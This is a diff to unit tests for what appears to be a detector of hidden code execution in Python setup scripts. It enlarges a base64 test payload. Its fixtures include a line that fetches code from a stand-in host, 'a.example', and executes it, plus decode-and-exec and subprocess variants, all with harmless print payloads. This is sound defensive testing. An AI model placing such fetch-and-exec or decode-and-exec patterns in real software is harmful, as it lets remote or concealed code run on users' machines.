@@ -13,6 +13,8 @@ from airlock.syntax.facts import Context, Deed
 from tests.unit.profiles.trees import profile
 
 SETUP = "from setuptools import setup\nsetup(name='example')\n"
+# Shorter ones hide nothing.
+PAYLOAD = base64.b64encode(b"print('a payload that is long enough')").decode()
 ELF = b"\x7fELF\x02\x01\x01" + bytes(121)
 
 
@@ -90,7 +92,11 @@ def test_the_machine_itself_is_no_host(code: str) -> None:
 @pytest.mark.parametrize(
     ("code", "ruse", "sure"),
     [
-        ("import base64\nexec(base64.b64decode('cHJpbnQoKQ=='))\n", Ruse.DECODED, True),
+        (
+            f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
+            Ruse.DECODED,
+            True,
+        ),
         (
             "import urllib.request\nexec(urllib.request.urlopen('https://a.example').read())\n",
             Ruse.FETCHED,
@@ -130,7 +136,7 @@ def test_the_machine_itself_is_no_host(code: str) -> None:
         (
             (
                 "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
-                "\"import base64; exec(base64.b64decode('cHJpbnQoKQ=='))\"])\n"
+                f"\"import base64; exec(base64.b64decode('{PAYLOAD}'))\"])\n"
             ),
             Ruse.DECODED,
             True,
